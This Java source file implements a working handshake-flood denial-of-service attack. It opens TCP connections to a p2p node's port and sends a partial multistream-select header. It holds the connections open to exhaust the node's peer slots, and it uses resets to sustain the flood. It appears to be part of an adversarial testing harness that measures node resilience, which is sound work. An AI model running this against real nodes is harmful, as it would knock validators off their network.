package dev.cairn.adversary;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * An outsider holding handshakes open: opens TCP connections to a node's p2p port at a steady rate, sends the
 * first bytes of a multistream-select header and then nothing, and keeps each connection until
 * {@code holdMillis} have passed (at most {@code openMax} at a time). Against a node that counts handshaking
 * connections against its peer slots this leaves validators no slot to reconnect with.
 *
 * <p>Sockets close with SO_LINGER 0 (a reset), so the attacker's own ephemeral ports are not held in
 * TIME_WAIT and the flood can go on for minutes.
 *
 * @param target the node's p2p TCP address
 * @param source the local address to connect from (e.g. 127.0.0.2 on loopback), or null for any
 * @param connectionsPerSecond new connections a second
 * @param holdMillis how long each connection is kept open
 * @param openMax most connections held open at once
 */
public record HandshakeFlood(InetSocketAddress target, InetAddress source, int connectionsPerSecond, long holdMillis,
    int openMax) implements Attack {
  /** {@code uvarint(19) "/multistream/1.0.0\n"}, cut short: the node waits for the rest. */
  private static final byte[] PARTIAL_HEADER = {0x13, '/', 'm', 'u', 'l', 't', 'i', 's'};
  private static final int CONNECT_TIMEOUT_MILLIS = 1_000;

  public HandshakeFlood {
    if (connectionsPerSecond < 1 || holdMillis < 1 || openMax < 1) {
      throw new IllegalArgumentException("rate, hold and open limit must be positive");
    }
  }

  @Override
  public String name() {
    return "handshake-flood";
  }

  @Override
  public AttackReport run(Duration duration) throws InterruptedException {
    long start = System.nanoTime();
    long end = start + duration.toNanos();
    long intervalNanos = 1_000_000_000L / connectionsPerSecond;
    long next = start;
    ArrayDeque<Held> held = new ArrayDeque<>();
    Counters c = new Counters();
    try {
      while (System.nanoTime() < end) {
        if (Thread.interrupted()) throw new InterruptedException();
        long now = System.nanoTime();
        if (next < now - 1_000_000_000L) next = now; // fell behind by a second: do not burst to catch up
        while (next <= now) {
          open(c).ifPresent(ch -> held.addLast(new Held(ch, System.nanoTime())));
          next += intervalNanos;
        }
        while (!held.isEmpty() && (held.size() > openMax || held.peekFirst().openedNanos + holdMillis * 1_000_000L <= now)) {
          close(held.pollFirst().channel, c);
        }
        Thread.sleep(1);
      }
    } finally {
      while (!held.isEmpty()) close(held.pollFirst().channel, c);
    }
    return c.report(name(), (System.nanoTime() - start) / 1_000_000);
  }

  private java.util.Optional<SocketChannel> open(Counters c) {
    c.attempted++;
    SocketChannel ch = null;
    try {
      ch = SocketChannel.open();
      ch.setOption(StandardSocketOptions.SO_LINGER, 0);
      if (source != null) ch.bind(new InetSocketAddress(source, 0));
      ch.socket().connect(target, CONNECT_TIMEOUT_MILLIS);
      ch.write(ByteBuffer.wrap(PARTIAL_HEADER));
      ch.configureBlocking(false);
      c.connected++;
      return java.util.Optional.of(ch);
    } catch (IOException e) {
      c.failed++;
      if (ch != null) quietly(ch);
      return java.util.Optional.empty();
    }
  }

  /** Before closing, learns whether the target had already dropped the connection. */
  private static void close(SocketChannel ch, Counters c) {
    try {
      if (ch.read(ByteBuffer.allocate(256)) < 0) c.droppedByTarget++; else c.heldToTheEnd++;
    } catch (IOException e) {
      c.droppedByTarget++;
    }
    quietly(ch);
  }

  private static void quietly(SocketChannel ch) {
    try {
      ch.close();
    } catch (IOException ignored) {
      // closing a reset socket: nothing left to release
    }
  }

  private record Held(SocketChannel channel, long openedNanos) {}

  private static final class Counters {
    long attempted;
    long connected;
    long failed;
    long droppedByTarget;
    long heldToTheEnd;

    AttackReport report(String name, long elapsedMillis) {
      Map<String, Long> m = new LinkedHashMap<>();
      m.put("connections_attempted", attempted);
      m.put("connections_opened", connected);
      m.put("connections_failed", failed);
      m.put("dropped_by_target", droppedByTarget);
      m.put("held_to_the_end", heldToTheEnd);
      return new AttackReport(name, elapsedMillis, m);
    }
  }
}
